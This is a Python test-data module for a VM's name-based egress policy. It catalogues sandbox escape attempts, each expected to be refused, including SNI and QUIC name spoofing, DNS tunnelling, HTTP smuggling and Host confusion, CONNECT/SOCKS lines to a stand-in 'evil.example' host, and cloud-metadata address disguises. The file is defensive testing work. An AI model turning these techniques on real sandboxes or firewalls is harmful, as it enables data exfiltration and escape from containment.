# SPDX-License-Identifier: GPL-2.0-or-later
"""Ways out of a VM that may reach names only: what others' users and researchers have reported.

Each way is a class of faults that such a policy has had somewhere; each attempt is one harmless
case of it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from . import places as at

EVIL = "{token}.evil.example"


@dataclass(frozen=True)
class Attempt:
    """What the guest does (attacker.py), and why it is refused.

    ``reasons`` are those of the audit log, of which one has to be there.  Budgets of the policy let
    ``names_most`` names be asked, and ``octets_most`` octets be sent.  ``closes``: in the middle
    the operator forbids the API.
    """

    title: str
    do: str
    reasons: tuple[str, ...]
    args: dict[str, Any] = field(default_factory=dict)
    names_most: int = 0
    octets_most: int = 0
    closes: bool = False


@dataclass(frozen=True)
class Way:
    """A class of attempts."""

    title: str
    attempts: tuple[Attempt, ...]


def _say(title: str, reasons: str, host: str = at.API_NAME, **args: Any) -> Attempt:
    names = args.pop("names", [EVIL])
    return Attempt(title, "say", tuple(reasons.split()), {"host": host, "names": names, **args})


def _go(
    title: str, reasons: str, host: str, port: int, do: str = "connect", **args: Any
) -> Attempt:
    place: dict[str, Any] = {"host": host} if do == "echo" else {"host": host, "port": port}
    return Attempt(title, do, tuple(reasons.split()), {**place, **args})


def _ask(title: str, reasons: str, name: str, server: str = "{resolver}", **args: Any) -> Attempt:
    return Attempt(title, "ask", tuple(reasons.split()), {"server": server, "name": name, **args})


def _head(title: str, reasons: str, lines: str, **args: Any) -> Attempt:
    text = lines.replace("{name}", at.MIRROR_NAME).replace("{evil}", EVIL).replace("|", "\r\n")
    return _go(title, reasons, at.MIRROR_NAME, 80, text=f"{text}\r\n\r\n", **args)


def _initial(title: str, reasons: str, names: list[str], host: str = at.API_NAME) -> Attempt:
    return _go(title, reasons, host, 443, "datagram", initial=names)


_DENIED = "deny-default"
_NOT_ASKED = "not-asked other-name"

WAYS = (
    Way(
        "say a name that was not asked for",
        (
            _say("another name at the allowed address", _NOT_ASKED),
            _say("an allowed name that lives elsewhere", _NOT_ASKED, names=[at.PYTHON_NAME]),
        ),
    ),
    Way(
        "an allowed name outside, another one inside",
        (
            _say("through the proxy, which was asked for the allowed one", _NOT_ASKED, at.GIT_NAME),
            _go(
                "HTTP's CONNECT where TLS is due",
                "not-tls",
                at.API_NAME,
                443,
                text="CONNECT {token}.evil.example:443 HTTP/1.1\r\n\r\n",
            ),
        ),
    ),
    Way(
        "neighbours of an allowed address",
        (
            _say("the alias behind the allowed name", _NOT_ASKED, names=[at.EDGE_NAME]),
            _go("another port", _DENIED, at.API_NAME, 8443),
        ),
    ),
    Way(
        "a hello in pieces",
        (
            _say("one octet a send", _NOT_ASKED, part=1),
            _say("one octet a record", _NOT_ASKED, record=1),
            _say("17 KiB of it", "too-long", pad=17000),
            _say("two names in it", "malformed", names=[at.API_NAME, EVIL]),
            _say(
                "a second hello after the server's request",
                _NOT_ASKED,
                names=[at.API_NAME],
                second=EVIL,
            ),
        ),
    ),
    Way(
        "QUIC",
        (
            _initial("another name at the allowed address", _NOT_ASKED, [EVIL]),
            _initial("an allowed name that lives elsewhere", _NOT_ASKED, [at.PYTHON_NAME]),
            _initial("no name", "no-name", []),
            _go("no Initial at all", "not-tls malformed", at.API_NAME, 443, "datagram"),
            _initial("another address", _DENIED, [at.API_NAME], at.EVIL),
            _initial("another allowed name's address", _DENIED, [at.PYTHON_NAME], at.PYTHON_NAME),
        ),
    ),
    Way(
        "Encrypted Client Hello",
        (_say("an allowed name outside", "ech", names=[at.API_NAME], ech=True),),
    ),
    Way(
        "no name",
        (
            _say("a hello without one", "no-name", names=[]),
            _say("an address in its place", "no-name malformed", names=["203.0.113.66"]),
            _go("an address that no name led to", _DENIED, at.EVIL, 443),
        ),
    ),
    Way(
        "names whose owner leads elsewhere",
        (
            _go("to the host", "host", f"host.{at.FILES_SUFFIX}", 443),
            _go("to the host's loopback", "unusable-address", f"loop.{at.FILES_SUFFIX}", 443),
            _go("to metadata", "private-address", f"meta.{at.FILES_SUFFIX}", 443),
            _go("to a private network", "private-address", f"inside.{at.FILES_SUFFIX}", 443),
        ),
    ),
    Way(
        "DNS",
        (
            _ask("another server, UDP", _DENIED, EVIL, at.EVIL),
            _ask("another server, TLS", _DENIED, EVIL, at.EVIL, port=853, tcp=True),
            _ask("the operator's own server", _DENIED, EVIL, at.DNS),
            _ask("a tunnel below a name that is not allowed", "deny-unlisted deny-default", EVIL),
            Attempt(
                "a tunnel below a wildcard that is",
                "names",
                ("budget", "budget-names", "names"),
                {"suffix": at.FILES_SUFFIX, "count": 30},
                names_most=at.NAMES_BUDGET,
            ),
        ),
    ),
    Way(
        "addresses in other clothes",
        (
            _go("IPv4-mapped", "embedded deny-default", f"::ffff:{at.EVIL4}", 443),
            _go("IPv4-compatible", "embedded deny-default", f"::{at.EVIL4}", 443),
            _go("NAT64", _DENIED, at.EVIL_NAT64, 443),
            _go("6to4", _DENIED, at.EVIL_6TO4, 443),
            _go("metadata", "metadata", at.METADATA4, 80),
            _go("metadata, NAT64", "metadata", at.METADATA_NAT64, 80),
            _go("metadata, IPv6", "metadata", at.METADATA6, 80),
            _go("metadata, mapped", "metadata embedded", f"::ffff:{at.METADATA4}", 80),
            _go("the host's own address", "host", at.HOST, 8080),
        ),
    ),
    Way(
        "calls that go round the check",
        (
            _say("urgent data", "malformed", how="MSG_OOB"),
            _say("TCP Fast Open", _NOT_ASKED, how="fast-open"),
            _say("sendfile", _NOT_ASKED, how="sendfile"),
            _say("splice", _NOT_ASKED, how="splice"),
            _say("zero-copy", _NOT_ASKED, how="MSG_ZEROCOPY"),
            _say("two threads", "not-asked other-name malformed not-tls", how="another thread"),
            _go(
                "a datagram of a connected socket",
                _DENIED,
                at.EVIL,
                5000,
                "datagram",
                how="connect",
            ),
            _go("an echo request", _DENIED, at.EVIL, 0, "echo"),
        ),
    ),
    Way(
        "while it changes",
        (
            Attempt(
                "memory, during the call",
                "rewrite",
                tuple(_NOT_ASKED.split()),
                {"host": at.API_NAME, "good": at.API_NAME, "bad": at.NOT_API_NAME},
            ),
            Attempt(
                "the policy: a connection that the new file refuses",
                "held",
                ("policy",),
                {"host": at.API_NAME, "names": [at.API_NAME]},
                closes=True,
            ),
        ),
    ),
    Way(
        "messages that two readers understand differently",
        (
            _head("another host", _NOT_ASKED, "GET /{token} HTTP/1.1|Host: {evil}"),
            _head("two hosts", "malformed", "GET /{token} HTTP/1.1|Host: {name}|Host: {evil}"),
            _head(
                "a target that contradicts the host",
                "malformed other-name not-asked",
                "GET http://{evil}/{token} HTTP/1.1|Host: {name}",
            ),
            _head(
                "two lengths",
                "malformed",
                "POST /{token} HTTP/1.1|Host: {name}|Content-Length: 5|Transfer-Encoding: chunked",
            ),
            _head(
                "a second request in the first's body",
                _NOT_ASKED,
                "GET / HTTP/1.1|Host: {name}||GET /{token} HTTP/1.1|Host: {evil}",
            ),
            _head("CONNECT", "not-http", "CONNECT {evil}:443 HTTP/1.1|Host: {name}|X: {token}"),
            _head(
                "another protocol by Upgrade",
                "not-http",
                "GET /{token} HTTP/1.1|Host: {name}|Connection: upgrade|Upgrade: x",
            ),
            _ask("two questions", "dns-malformed", EVIL, also=at.API_NAME),
            _ask(
                "an octet of 0 in a label", "deny-unlisted", "api.example\\0.{token}.evil.example"
            ),
            _ask("a dot in a label", "deny-unlisted", "api\\.example.{token}.evil.example"),
        ),
    ),
    Way(
        "data before the verdict",
        (
            _go("send() without waiting for connect()", _DENIED, at.EVIL, 443, "hurry"),
            _say("TCP Fast Open", _DENIED, at.EVIL, how="fast-open"),
        ),
    ),
    Way(
        "almost a name",
        (
            _ask("below it", "deny-unlisted", f"{{token}}.{at.API_NAME}"),
            _ask("before it", "deny-unlisted", f"{{token}}{at.API_NAME}"),
            _ask(
                "the wildcard's letters without its dot",
                "deny-unlisted",
                f"{{token}}{at.FILES_SUFFIX}",
            ),
            _ask("all below the last label", "deny-unlisted", "{token}.example"),
            _say("a dot at its end", "malformed", names=[f"{at.API_NAME}."]),
            _say("another name in capitals", _NOT_ASKED, names=["{TOKEN}.EVIL.EXAMPLE"]),
        ),
    ),
    Way(
        "beside the proxy, and by it",
        (
            _say("its site's other address, direct", _DENIED, at.GIT_OTHER, names=[at.GIT_NAME]),
            _go(
                "CONNECT to the proxy itself",
                _DENIED,
                at.PROXY,
                at.PROXY_PORT,
                text="CONNECT {token}.evil.example:443 HTTP/1.1\r\n\r\n",
            ),
            _go(
                "SOCKS to the proxy itself",
                _DENIED,
                at.PROXY,
                at.PROXY_PORT,
                text="\x05\x01\0{token}",
            ),
        ),
    ),
    Way(
        "much to a server that is allowed",
        (
            Attempt(
                "twice what its budget says",
                "upload",
                ("budget", "budget-sent", "sent"),
                {"host": at.API_NAME, "octets": 2 * at.SENT_BUDGET},
                octets_most=at.SENT_BUDGET,
            ),
        ),
    ),
)
